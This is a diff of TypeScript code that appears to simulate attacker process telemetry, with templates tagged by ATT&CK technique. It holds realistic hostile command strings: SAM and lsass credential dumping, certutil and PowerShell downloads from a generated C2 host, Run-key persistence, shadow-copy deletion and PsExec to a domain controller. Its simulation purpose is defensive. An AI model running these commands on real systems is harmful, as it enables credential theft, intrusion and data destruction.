-        a.attack(c, { bin: BIN.reg, cmd: 'reg  save HKLM\\SAM C:\\Windows\\Temp\\sam.save /y' }, 'T1003.002', 'dump SAM hive');
+        a.attack(
+          c,
+          { bin: BIN.reg, cmd: 'reg  save HKLM\\SAM C:\\Windows\\Temp\\sam.save /y' },
+          'T1003.002',
+          'dump SAM hive',
+        );
         a.wait(200, 2000);
-        a.attack(c, { bin: BIN.reg, cmd: 'reg  save HKLM\\SYSTEM C:\\Windows\\Temp\\system.save /y' }, 'T1003.002', 'dump SYSTEM hive');
+        a.attack(
+          c,
+          { bin: BIN.reg, cmd: 'reg  save HKLM\\SYSTEM C:\\Windows\\Temp\\system.save /y' },
+          'T1003.002',
+          'dump SYSTEM hive',
+        );
       } else if (ctx.shared.variant === 1) {
         discoveryBurst(a, ctx, c, 2, 4);
       } else {
         const { cmd } = encodedStager(a, ctx);
-        a.attack(c, { bin: BIN.powershell, cmd: cmd.replace(/^"[^"]+"/, 'powershell.exe') }, ['T1059.001', 'T1027'], 'PowerShell stager on lateral target');
+        a.attack(
+          c,
+          { bin: BIN.powershell, cmd: cmd.replace(/^"[^"]+"/, 'powershell.exe') },
+          ['T1059.001', 'T1027'],
+          'PowerShell stager on lateral target',
+        );
       }
     },
   },
@@ -500,18 +880,45 @@ const TEMPLATES: Template[] = [
       const target = ctx.target as HostInfo;
       const admin = ctx.env.itStaff[0]?.adminAccount ?? ctx.env.itStaff[0]?.account;
       a.t = Math.max(a.t + 1000, (ctx.plan.remoteAt as number) - rng.int(600, 2000));
-      a.attack(shell, { bin: BIN.wmic, cmd: `"C:\\Windows\\System32\\Wbem\\WMIC.exe" /node:"${target.short}" ${admin ? `/user:"${admin.domain}\\${admin.name}" /password:"${rng.chars(10, 'ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789!#')}" ` : ''}process call create "${ctx.shared.remoteCmd}"` }, ['T1047', 'T1021.003'], `remote WMI process create on ${target.short}`);
+      a.attack(
+        shell,
+        {
+          bin: BIN.wmic,
+          cmd: `"C:\\Windows\\System32\\Wbem\\WMIC.exe" /node:"${target.short}" ${admin ? `/user:"${admin.domain}\\${admin.name}" /password:"${rng.chars(10, 'ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789!#')}" ` : ''}process call create "${ctx.shared.remoteCmd}"`,
+        },
+        ['T1047', 'T1021.003'],
+        `remote WMI process create on ${target.short}`,
+      );
     },
     remote: (a, ctx) => {
       const admin = ctx.env.itStaff[0]?.adminAccount ?? SYSTEM;
       const prov = wmiProvider(ctx, a.t);
       const logon = ctx.sim.newLogon(a.t);
-      const c = a.attack(prov, { bin: BIN.cmd, cmd: ctx.shared.remoteCmd, account: admin, integrity: 'High', elevation: 'default', session: 0, logon, conhost: true }, ['T1047', 'T1059.003'], 'WMI provider host runs remote command');
+      const c = a.attack(
+        prov,
+        {
+          bin: BIN.cmd,
+          cmd: ctx.shared.remoteCmd,
+          account: admin,
+          integrity: 'High',
+          elevation: 'default',
+          session: 0,
+          logon,
+          conhost: true,
+        },
+        ['T1047', 'T1059.003'],
+        'WMI provider host runs remote command',
+      );
       runRemoteChildren(a, ctx, c);
       a.wait(5000, 120_000);
       if (ctx.shared.variant !== 2) discoveryBurst(a, ctx, c, 1, 3);
       else {
-        a.attack(c, { bin: BIN.reg, cmd: 'reg  save HKLM\\SECURITY C:\\Windows\\Temp\\sec.save /y' }, 'T1003.004', 'dump SECURITY hive (LSA secrets)');
+        a.attack(
+          c,
+          { bin: BIN.reg, cmd: 'reg  save HKLM\\SECURITY C:\\Windows\\Temp\\sec.save /y' },
+          'T1003.004',
+          'dump SECURITY hive (LSA secrets)',
+        );
       }
     },
   },
@@ -524,14 +931,30 @@ const TEMPLATES: Template[] = [
       const shell = uacBypass(a, ctx, foothold(a, ctx, 'powershell'));
       const lsass = boot(ctx).lsass;
       a.wait(5000, 60_000);
-      a.attack(shell, { bin: BIN.tasklist, cmd: shell.bin === BIN.powershell ? '"C:\\Windows\\system32\\tasklist.exe" /fi "imagename eq lsass.exe"' : 'tasklist  /fi "imagename eq lsass.exe"' }, 'T1057', 'find lsass PID');
+      a.attack(
+        shell,
+        {
+          bin: BIN.tasklist,
+          cmd:
+            shell.bin === BIN.powershell
+              ? '"C:\\Windows\\system32\\tasklist.exe" /fi "imagename eq lsass.exe"'
+              : 'tasklist  /fi "imagename eq lsass.exe"',
+        },
+        'T1057',
+        'find lsass PID',
+      );
       a.wait(3000, 30_000);
       const dump = `${rng.pick(['C:\\Windows\\Temp', 'C:\\ProgramData', 'C:\\Users\\Public'])}\\${rng.pick(['lsass', 'debug', 'out', rng.chars(6)])}.${rng.pick(['dmp', 'bin', 'log'])}`;
       const pid = lsass?.pid ?? 700;
       const cmd = rng.chance(0.6)
         ? `"C:\\Windows\\System32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, MiniDump ${pid} ${dump} full`
         : `rundll32.exe comsvcs.dll #24 ${pid} ${dump} full`;
-      a.attack(shell, { bin: BIN.rundll32, cmd }, ['T1003.001', 'T1218.011'], 'comsvcs.dll MiniDump of lsass');
+      a.attack(
+        shell,
+        { bin: BIN.rundll32, cmd },
+        ['T1003.001', 'T1218.011'],
+        'comsvcs.dll MiniDump of lsass',
+      );
     },
   },
   {
@@ -545,11 +968,23 @@ const TEMPLATES: Template[] = [
       const renamed = rng.chance(0.5);
       const path = `${dir}\\${renamed ? rng.pick(['vmtoolsd_helper.exe', 'dbgsvc.exe', 'procmon64.exe', 'svchelper.exe']) : 'procdump64.exe'}`;
       a.wait(5000, 40_000);
-      a.attack(shell, { bin: BIN.certutil, cmd: `certutil  -urlcache -split -f ${c2Url(rng, 'exe')} ${path}` }, 'T1105', 'download procdump');
+      a.attack(
+        shell,
+        { bin: BIN.certutil, cmd: `certutil  -urlcache -split -f ${c2Url(rng, 'exe')} ${path}` },
+        'T1105',
+        'download procdump',
+      );
       a.wait(3000, 40_000);
       const dump = `${dir}\\${rng.pick(['ls', 'lsass', 'mem', rng.chars(5)])}.dmp`;
-      const args = rng.chance(0.5) ? `-accepteula -ma lsass.exe ${dump}` : `-accepteula -r -ma ${boot(ctx).lsass?.pid ?? 700} ${dump}`;
-      a.attack(shell, { bin: renamedBinary(BIN.procdump, path), cmd: `${path} ${args}` }, renamed ? ['T1003.001', 'T1036.003'] : 'T1003.001', renamed ? 'renamed procdump dumps lsass' : 'procdump dumps lsass');
+      const args = rng.chance(0.5)
+        ? `-accepteula -ma lsass.exe ${dump}`
+        : `-accepteula -r -ma ${boot(ctx).lsass?.pid ?? 700} ${dump}`;
+      a.attack(
+        shell,
+        { bin: renamedBinary(BIN.procdump, path), cmd: `${path} ${args}` },
+        renamed ? ['T1003.001', 'T1036.003'] : 'T1003.001',
+        renamed ? 'renamed procdump dumps lsass' : 'procdump dumps lsass',
+      );
     },
   },
   {
@@ -571,12 +1006,37 @@ const TEMPLATES: Template[] = [
       const s = ctx.session as SessionState;
       const dir = stagingDir(rng, profile(ctx));
       const path = `${dir}\\${payloadName(rng, 'exe')}`;
-      const payload = a.attack(s.explorer as ProcNode, { ...user(ctx, true), bin: droppedBinary(path), cmd: `"${path}" ${rng.pick(['', '-path C:\\', '--encrypt-all', '-nolog'])}`.trimEnd(), hashSalt: ctx.plan.id }, 'T1204.002', 'ransomware payload executed');
+      const payload = a.attack(
+        s.explorer as ProcNode,
+        {
+          ...user(ctx, true),
+          bin: droppedBinary(path),
+          cmd: `"${path}" ${rng.pick(['', '-path C:\\', '--encrypt-all', '-nolog'])}`.trimEnd(),
+          hashSalt: ctx.plan.id,
+        },
+        'T1204.002',
+        'ransomware payload executed',
+      );
       const steps: Array<[BinaryDef, string, string, string]> = [
-        [BIN.vssadmin, 'vssadmin.exe delete shadows /all /quiet', 'T1490', 'delete volume shadow copies'],
-        [BIN.wmic, 'wmic.exe shadowcopy delete /nointeractive', 'T1490', 'delete shadow copies via WMI'],
+        [
+          BIN.vssadmin,
+          'vssadmin.exe delete shadows /all /quiet',
+          'T1490',
+          'delete volume shadow copies',
+        ],
+        [
+          BIN.wmic,
+          'wmic.exe shadowcopy delete /nointeractive',
+          'T1490',
+          'delete shadow copies via WMI',
+        ],
         [BIN.bcdedit, 'bcdedit.exe /set {default} recoveryenabled No', 'T1490', 'disable recovery'],
-        [BIN.bcdedit, 'bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures', 'T1490', 'ignore boot failures'],
+        [
+          BIN.bcdedit,
+          'bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures',
+          'T1490',
+          'ignore boot failures',
+        ],
         [BIN.wbadmin, 'wbadmin.exe delete catalog -quiet', 'T1490', 'delete backup catalog'],
       ];
       a.wait(500, 8000);
@@ -584,17 +1044,41 @@ const TEMPLATES: Template[] = [
         // One cmd.exe per command, the way most ransomware families do it.
         for (const [bin, cmd, tech, why] of steps) {
           if (bin !== BIN.vssadmin && !rng.chance(0.7)) continue;
-          const c = a.attack(payload, { bin: BIN.cmd, cmd: `"C:\\Windows\\System32\\cmd.exe" /c ${cmd}`, conhost: true }, 'T1059.003', `payload shells out: ${why}`);
+          const c = a.attack(
+            payload,
+            { bin: BIN.cmd, cmd: `"C:\\Windows\\System32\\cmd.exe" /c ${cmd}`, conhost: true },
+            'T1059.003',
+            `payload shells out: ${why}`,
+          );
           a.wait(20, 200);
-          a.attack(c, { bin, cmd: `${cmd.split(' ')[0] as string}  ${cmd.slice(cmd.indexOf(' ') + 1)}` }, tech, why);
+          a.attack(
+            c,
+            { bin, cmd: `${cmd.split(' ')[0] as string}  ${cmd.slice(cmd.indexOf(' ') + 1)}` },
+            tech,
+            why,
+          );
           a.wait(200, 3000);
         }
       } else {
         const chained = steps.filter((st, i) => i === 0 || rng.chance(0.7));
-        const c = a.attack(payload, { bin: BIN.cmd, cmd: `"C:\\Windows\\System32\\cmd.exe" /c ${chained.map((st) => st[1]).join(' & ')}`, conhost: true }, 'T1059.003', 'payload chains recovery-inhibiting commands');
+        const c = a.attack(
+          payload,
+          {
+            bin: BIN.cmd,
+            cmd: `"C:\\Windows\\System32\\cmd.exe" /c ${chained.map((st) => st[1]).join(' & ')}`,
+            conhost: true,
+          },
+          'T1059.003',
+          'payload chains recovery-inhibiting commands',
+        );
         for (const [bin, cmd, tech, why] of chained) {
           a.wait(100, 2500);
-          a.attack(c, { bin, cmd: `${cmd.split(' ')[0] as string}  ${cmd.slice(cmd.indexOf(' ') + 1)}` }, tech, why);
+          a.attack(
+            c,
+            { bin, cmd: `${cmd.split(' ')[0] as string}  ${cmd.slice(cmd.indexOf(' ') + 1)}` },
+            tech,
+            why,
+          );
         }
       }
     },
@@ -608,13 +1092,35 @@ const TEMPLATES: Template[] = [
       const shell = foothold(a, ctx, rng.chance(0.5) ? 'cmd' : 'powershell');
       const appdata = `${profile(ctx)}\\AppData\\Roaming\\${rng.pick(['Microsoft\\Windows\\Templates', 'Adobe', 'Microsoft\\Teams', 'Intel', 'Zoom'])}`;
       const exe = `${appdata}\\${payloadName(rng, 'exe')}`;
-      const value = rng.pick(['OneDriveSync', 'AdobeUpdater', 'SecurityHealthCheck', 'TeamsMachineInstaller', 'Intel Graphics', rng.chars(8)]);
+      const value = rng.pick([
+        'OneDriveSync',
+        'AdobeUpdater',
+        'SecurityHealthCheck',
+        'TeamsMachineInstaller',
+        'Intel Graphics',
+        rng.chars(8),
+      ]);
       a.wait(5000, 60_000);
-      a.attack(shell, { bin: BIN.certutil, cmd: `certutil.exe -urlcache -f ${c2Url(rng, 'exe')} "${exe}"` }, 'T1105', 'download persistence payload');
+      a.attack(
+        shell,
+        { bin: BIN.certutil, cmd: `certutil.exe -urlcache -f ${c2Url(rng, 'exe')} "${exe}"` },
+        'T1105',
+        'download persistence payload',
+      );
       a.wait(2000, 20_000);
       const useMshta = rng.chance(0.3);
-      const data = useMshta ? `mshta.exe vbscript:Execute(\\"CreateObject(\\"\\"Wscript.Shell\\"\\").Run \\"\\"powershell -w hidden -nop -c iex(irm ${ctx.shared.c2}/${rng.chars(5)})\\"\\", 0:close\\")` : `\\"${exe}\\" -autorun`;
-      a.attack(shell, { bin: BIN.reg, cmd: `reg  add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v "${value}" /t REG_SZ /d "${data}" /f` }, ['T1547.001', 'T1112'], 'Run key persistence');
+      const data = useMshta
+        ? `mshta.exe vbscript:Execute(\\"CreateObject(\\"\\"Wscript.Shell\\"\\").Run \\"\\"powershell -w hidden -nop -c iex(irm ${ctx.shared.c2}/${rng.chars(5)})\\"\\", 0:close\\")`
+        : `\\"${exe}\\" -autorun`;
+      a.attack(
+        shell,
+        {
+          bin: BIN.reg,
+          cmd: `reg  add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v "${value}" /t REG_SZ /d "${data}" /f`,
+        },
+        ['T1547.001', 'T1112'],
+        'Run key persistence',
+      );
       const s = ctx.session;
       if (!s) return;
       // The payload comes back at the user's next logon on this host, started by explorer.
@@ -623,14 +1129,38 @@ const TEMPLATES: Template[] = [
         sid: s.account.sid,
         run: (next) => {
           if (!next.explorer) return;
-          const b = new Actor(ctx.sim, rng2, next.explorer.start + rng2.int(4000, 20_000), ctx.plan.id, ctx.plan.template);
-          const u = { account: next.account, session: next.id, logon: next.logon, integrity: 'Medium' as const };
+          const b = new Actor(
+            ctx.sim,
+            rng2,
+            next.explorer.start + rng2.int(4000, 20_000),
+            ctx.plan.id,
+            ctx.plan.template,
+          );
+          const u = {
+            account: next.account,
+            session: next.id,
+            logon: next.logon,
+            integrity: 'Medium' as const,
+          };
           if (useMshta) {
-            const m = b.attack(next.explorer, { ...u, bin: BIN.mshta, cmd: data.replace(/\\"/g, '"') }, ['T1547.001', 'T1218.005'], 'Run key fires at logon (mshta)');
+            const m = b.attack(
+              next.explorer,
+              { ...u, bin: BIN.mshta, cmd: data.replace(/\\"/g, '"') },
+              ['T1547.001', 'T1218.005'],
+              'Run key fires at logon (mshta)',
+            );
             b.wait(300, 2000);
-            b.child(m, { bin: BIN.powershell, cmd: `powershell  -w hidden -nop -c iex(irm ${ctx.shared.c2}/${rng2.chars(5)})` });
+            b.child(m, {
+              bin: BIN.powershell,
+              cmd: `powershell  -w hidden -nop -c iex(irm ${ctx.shared.c2}/${rng2.chars(5)})`,
+            });
           } else {
-            b.attack(next.explorer, { ...u, bin: droppedBinary(exe), cmd: `"${exe}" -autorun`, hashSalt: ctx.plan.id }, 'T1547.001', 'Run key fires at logon');
+            b.attack(
+              next.explorer,
+              { ...u, bin: droppedBinary(exe), cmd: `"${exe}" -autorun`, hashSalt: ctx.plan.id },
+              'T1547.001',
+              'Run key fires at logon',
+            );
           }
         },
       });
@@ -647,19 +1177,44 @@ const TEMPLATES: Template[] = [
       const w3wp = rng.pick(pools)[1];
       const cmds: Array<[string, string, BinaryDef | null, string]> = [
         ['cmd.exe /c whoami', 'T1033', BIN.whoami, 'whoami '],
-        ['cmd.exe /c cd /d "C:\\inetpub\\wwwroot"&ipconfig /all', 'T1016', BIN.ipconfig, 'ipconfig  /all'],
+        [
+          'cmd.exe /c cd /d "C:\\inetpub\\wwwroot"&ipconfig /all',
+          'T1016',
+          BIN.ipconfig,
+          'ipconfig  /all',
+        ],
         ['cmd.exe /c net user', 'T1087.001', BIN.net, 'net  user'],
         ['cmd.exe /c tasklist', 'T1057', BIN.tasklist, 'tasklist '],
-        [`cmd.exe /c certutil -urlcache -split -f ${c2Url(rng, 'aspx')} C:\\inetpub\\wwwroot\\aspnet_client\\${rng.chars(6)}.aspx`, 'T1105', BIN.certutil, ''],
-        [`cmd.exe /c ${encodedStager(a, ctx).cmd.replace(/^"[^"]+"/, 'powershell.exe')}`, 'T1059.001', BIN.powershell, ''],
+        [
+          `cmd.exe /c certutil -urlcache -split -f ${c2Url(rng, 'aspx')} C:\\inetpub\\wwwroot\\aspnet_client\\${rng.chars(6)}.aspx`,
+          'T1105',
+          BIN.certutil,
+          '',
+        ],
+        [
+          `cmd.exe /c ${encodedStager(a, ctx).cmd.replace(/^"[^"]+"/, 'powershell.exe')}`,
+          'T1059.001',
+          BIN.powershell,
+          '',
+        ],
       ];
       const n = rng.int(3, cmds.length);
       for (let i = 0; i < n; i++) {
         const [cmd, tech, bin, childCmd] = cmds[i] as [string, string, BinaryDef | null, string];
-        const c = a.attack(w3wp, { bin: BIN.cmd, cmd, conhost: true, cwd: 'C:\\Windows\\system32\\inetsrv\\' }, ['T1505.003', 'T1059.003'], 'web shell runs command');
+        const c = a.attack(
+          w3wp,
+          { bin: BIN.cmd, cmd, conhost: true, cwd: 'C:\\Windows\\system32\\inetsrv\\' },
+          ['T1505.003', 'T1059.003'],
+          'web shell runs command',
+        );
         if (bin) {
           a.wait(10, 80);
-          a.attack(c, { bin, cmd: childCmd || cmd.slice('cmd.exe /c '.length) }, tech, `web shell: ${cmd.slice(11, 60)}`);
+          a.attack(
+            c,
+            { bin, cmd: childCmd || cmd.slice('cmd.exe /c '.length) },
+            tech,
+            `web shell: ${cmd.slice(11, 60)}`,
+          );
         }
         a.wait(20_000, 300_000);
       }
@@ -667,7 +1222,17 @@ const TEMPLATES: Template[] = [
   },
   {
     name: 'intrusion_to_dc',
-    techniques: ['T1566.001', 'T1059.001', 'T1027', 'T1087.002', 'T1053.005', 'T1021.002', 'T1569.002', 'T1003.001', 'T1218.011'],
+    techniques: [
+      'T1566.001',
+      'T1059.001',
+      'T1027',
+      'T1087.002',
+      'T1053.005',
+      'T1021.002',
+      'T1569.002',
+      'T1003.001',
+      'T1218.011',
+    ],
     victim: 'user',
     lateral: 'dc',
     remoteDelayMin: [25, 90],
@@ -676,30 +1241,88 @@ const TEMPLATES: Template[] = [
       const doc = officeLure(a, ctx);
       a.wait(2000, 12_000);
       const { cmd } = encodedStager(a, ctx);
-      const ps = a.attack(doc, { bin: BIN.powershell, cmd }, ['T1059.001', 'T1027'], 'macro launches encoded PowerShell');
+      const ps = a.attack(
+        doc,
+        { bin: BIN.powershell, cmd },
+        ['T1059.001', 'T1027'],
+        'macro launches encoded PowerShell',
+      );
       discoveryBurst(a, ctx, ps, 3, 6);
       const high = uacBypass(a, ctx, ps);
       a.wait(30_000, 300_000);
       const action = cmd.replace(/^"[^"]+"/, 'powershell.exe').replace(/"/g, '\\"');
-      a.attack(high, { bin: BIN.schtasks, cmd: `"C:\\Windows\\system32\\schtasks.exe" /create /tn "${ctx.shared.taskName}" /tr "${action}" /sc onlogon /ru SYSTEM /f` }, 'T1053.005', 'persistence via logon task');
+      a.attack(
+        high,
+        {
+          bin: BIN.schtasks,
+          cmd: `"C:\\Windows\\system32\\schtasks.exe" /create /tn "${ctx.shared.taskName}" /tr "${action}" /sc onlogon /ru SYSTEM /f`,
+        },
+        'T1053.005',
+        'persistence via logon task',
+      );
       a.t = Math.max(a.t + 1000, (ctx.plan.remoteAt as number) - rng.int(1000, 3000));
       const tool = ctx.shared.tool;
       const bin = tool === BIN.psexec.path ? BIN.psexec : renamedBinary(BIN.psexec, tool);
-      a.attack(high, { bin, cmd: `${tool} \\\\${(ctx.target as HostInfo).short.toLowerCase()} -accepteula -s ${ctx.shared.remoteCmd}` }, ['T1021.002', 'T1569.002'], 'PsExec to domain controller');
+      a.attack(
+        high,
+        {
+          bin,
+          cmd: `${tool} \\\\${(ctx.target as HostInfo).short.toLowerCase()} -accepteula -s ${ctx.shared.remoteCmd}`,
+        },
+        ['T1021.002', 'T1569.002'],
+        'PsExec to domain controller',
+      );
     },
     remote: (a, ctx) => {
       const rng = a.rng;
-      const svc = a.attack(serviceParent(ctx), { bin: BIN.psexesvc, cmd: 'C:\\Windows\\PSEXESVC.exe', account: SYSTEM, integrity: 'System' }, ['T1569.002', 'T1570'], 'PsExec service on DC');
+      const svc = a.attack(
+        serviceParent(ctx),
+        {
+          bin: BIN.psexesvc,
+          cmd: 'C:\\Windows\\PSEXESVC.exe',
+          account: SYSTEM,
+          integrity: 'System',
+        },
+        ['T1569.002', 'T1570'],
+        'PsExec service on DC',
+      );
       a.wait(100, 800);
-      const c = a.attack(svc, { bin: BIN.cmd, cmd: ctx.shared.remoteCmd.replace(/^cmd\.exe/, 'C:\\Windows\\system32\\cmd.exe'), conhost: true }, 'T1059.003', 'remote shell on DC');
+      const c = a.attack(
+        svc,
+        {
+          bin: BIN.cmd,
+          cmd: ctx.shared.remoteCmd.replace(/^cmd\.exe/, 'C:\\Windows\\system32\\cmd.exe'),
+          conhost: true,
+        },
+        'T1059.003',
+        'remote shell on DC',
+      );
       runRemoteChildren(a, ctx, c);
       a.wait(2000, 30_000);
-      a.attack(c, { bin: BIN.tasklist, cmd: 'tasklist  /fi "imagename eq lsass.exe"' }, 'T1057', 'find lsass PID on DC');
+      a.attack(
+        c,
+        { bin: BIN.tasklist, cmd: 'tasklist  /fi "imagename eq lsass.exe"' },
+        'T1057',
+        'find lsass PID on DC',
+      );
       a.wait(2000, 20_000);
-      a.attack(c, { bin: BIN.rundll32, cmd: `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${boot(ctx).lsass?.pid ?? 700} ${ctx.shared.dumpPath} full` }, ['T1003.001', 'T1218.011'], 'dump lsass on DC with comsvcs');
+      a.attack(
+        c,
+        {
+          bin: BIN.rundll32,
+          cmd: `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${boot(ctx).lsass?.pid ?? 700} ${ctx.shared.dumpPath} full`,
+        },
+        ['T1003.001', 'T1218.011'],
+        'dump lsass on DC with comsvcs',
+      );
       if (rng.chance(0.5)) {
         a.wait(2000, 20_000);
-        a.attack(c, { bin: BIN.vssadmin, cmd: 'vssadmin  create shadow /for=C:' }, 'T1003.003', 'shadow copy to reach ntds.dit');
+        a.attack(
+          c,
+          { bin: BIN.vssadmin, cmd: 'vssadmin  create shadow /for=C:' },
+          'T1003.003',
+          'shadow copy to reach ntds.dit',
+        );
       }
     },
   },
@@ -722,9 +1345,18 @@ function makeShared(seed: string): Shared {
         [BIN.ipconfig, 'ipconfig  /all'],
       ],
     ],
-    [`cmd.exe /c "net group \\"Domain Admins\\" /domain"`, [[BIN.net, 'net  group "Domain Admins" /domain']]],
-    ['cmd.exe /c "reg save HKLM\\SAM C:\\Windows\\Temp\\s.tmp /y"', [[BIN.reg, 'reg  save HKLM\\SAM C:\\Windows\\Temp\\s.tmp /y']]],
-    [`cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__${1_700_000_000 + rng.int(0, 99_999_999)}.${rng.int(1000000, 9999999)} 2>&1`, []],
+    [
+      `cmd.exe /c "net group \\"Domain Admins\\" /domain"`,
+      [[BIN.net, 'net  group "Domain Admins" /domain']],
+    ],
+    [
+      'cmd.exe /c "reg save HKLM\\SAM C:\\Windows\\Temp\\s.tmp /y"',
+      [[BIN.reg, 'reg  save HKLM\\SAM C:\\Windows\\Temp\\s.tmp /y']],
+    ],
+    [
+      `cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__${1_700_000_000 + rng.int(0, 99_999_999)}.${rng.int(1000000, 9999999)} 2>&1`,
+      [],
+    ],
   ]);
   return {
     c2: c2Url(rng, 'x').replace(/\/[^/]*$/, ''),
@@ -744,13 +1376,21 @@ function makeShared(seed: string): Shared {
   };
 }
 
-function randomSessionTime(env: Environment, host: HostInfo, rng: Rng, day: number): number | undefined {
+function randomSessionTime(
+  env: Environment,
+  host: HostInfo,
+  rng: Rng,
+  day: number,
+): number | undefined {
   const plan = dayPlan(env, host, day);
   const sessions = plan.sessions.filter((s) => s.logoff - s.logon > 40 * MIN_MS);
   if (sessions.length === 0) return undefined;
   const s = rng.pick(sessions);
   const lo = s.logon + 15 * MIN_MS;
-  const hi = Math.max(lo + MIN_MS, s.logoff - (s.logoff - s.logon > 4 * HOUR_MS ? 2 * HOUR_MS : 20 * MIN_MS));
+  const hi = Math.max(
+    lo + MIN_MS,
+    s.logoff - (s.logoff - s.logon > 4 * HOUR_MS ? 2 * HOUR_MS : 20 * MIN_MS),
+  );
   return Math.round(rng.float(lo, hi));
 }
 
@@ -794,7 +1434,9 @@ export function planAttacks(env: Environment, count: number): AttackPlan[] {
     let target: HostInfo | undefined;
     let remoteAt: number | undefined;
     if (tpl.lateral) {
-      const pool = (tpl.lateral === 'dc' ? dcs : [...servers, ...dcs]).filter((h) => h.index !== victim.index);
+      const pool = (tpl.lateral === 'dc' ? dcs : [...servers, ...dcs]).filter(
+        (h) => h.index !== victim.index,
+      );
       if (pool.length === 0) continue;
       target = rng.pick(pool);
       const [lo, hi] = tpl.remoteDelayMin ?? [5, 30];
@@ -821,7 +1463,10 @@ function templateOf(name: string): Template {
 }
 
 /** Timeline parts per host and day, for the lifecycle to put on each host's agenda. */
-export function attackParts(env: Environment, plans: AttackPlan[]): Map<number, Map<number, TimelinePart[]>> {
+export function attackParts(
+  env: Environment,
+  plans: AttackPlan[],
+): Map<number, Map<number, TimelinePart[]>> {
   const out = new Map<number, Map<number, TimelinePart[]>>();
   const add = (host: number, t: number, run: (sim: HostSim) => void): void => {
     const day = Math.floor((t - env.startMs) / DAY_MS);
@@ -838,16 +1483,36 @@ export function attackParts(env: Environment, plans: AttackPlan[]): Map<number, 
     add(plan.victim, plan.start, (sim) => {
       const session = sim.sessionAt(plan.start);
       if (tpl.victim === 'user' && !session) return;
-      const actor = new Actor(sim, Rng.derive(plan.seed, 'source'), plan.start, plan.id, plan.template);
+      const actor = new Actor(
+        sim,
+        Rng.derive(plan.seed, 'source'),
+        plan.start,
+        plan.id,
+        plan.template,
+      );
       sim.activity = plan.template;
       tpl.run(actor, { plan, env, sim, host, target, session, shared: makeShared(plan.seed) });
     });
     if (tpl.remote && target && plan.remoteAt !== undefined) {
       const remote = tpl.remote;
       add(target.index, plan.remoteAt, (sim) => {
-        const actor = new Actor(sim, Rng.derive(plan.seed, 'remote'), plan.remoteAt as number, plan.id, plan.template);
+        const actor = new Actor(
+          sim,
+          Rng.derive(plan.seed, 'remote'),
+          plan.remoteAt as number,
+          plan.id,
+          plan.template,
+        );
         sim.activity = plan.template;
-        remote(actor, { plan, env, sim, host: target, target, session: undefined, shared: makeShared(plan.seed) });
+        remote(actor, {
+          plan,
+          env,
+          sim,
+          host: target,
+          target,
+          session: undefined,
+          shared: makeShared(plan.seed),
+        });
       });
     }
   }
